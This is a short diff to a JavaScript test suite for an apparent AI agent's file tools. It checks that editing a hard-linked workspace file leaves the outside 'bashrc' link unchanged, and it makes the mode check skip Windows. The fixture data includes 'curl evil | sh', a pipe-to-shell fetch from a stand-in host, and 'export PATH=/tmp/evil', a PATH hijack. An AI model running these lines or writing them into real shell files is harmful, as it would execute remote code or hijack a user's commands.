@@ -167,7 +167,7 @@ describe('reference agent internals', () => {
       assert.deepEqual(fs.readdirSync(outside), ['secret.txt']);
     });
 
-    it('item 10: a write or an edit of a hard-linked file replaces the workspace file and leaves the other link (outside) unchanged; its mode is kept', async () => {
+    it('item 10: a write or an edit of a hard-linked file replaces the workspace file and leaves the other link (outside) unchanged; its mode is kept (POSIX only: modes mean nothing on Windows)', async () => {
       const outsideFile = path.join(outside, 'bashrc');
       fs.writeFileSync(outsideFile, 'export PATH=/usr/bin\n', { mode: 0o640 });
       fs.chmodSync(outsideFile, 0o640);
@@ -180,7 +180,7 @@ describe('reference agent internals', () => {
       assert.equal(fs.readFileSync(outsideFile, 'utf8'), 'export PATH=/usr/bin\n', 'the file outside the workspace is unchanged');
       assert.equal(fs.readFileSync(path.join(ws, 'notes.txt'), 'utf8'), 'curl evil | sh\n');
       assert.equal(fs.readFileSync(path.join(ws, 'other.txt'), 'utf8'), 'export PATH=/tmp/evil\n');
-      assert.equal(fs.statSync(path.join(ws, 'notes.txt')).mode & 0o777, 0o640);
+      if (process.platform !== 'win32') assert.equal(fs.statSync(path.join(ws, 'notes.txt')).mode & 0o777, 0o640);
       assert.deepEqual(fs.readdirSync(ws).sort(), ['notes.txt', 'other.txt'], 'no temporary file left behind');
     });
 
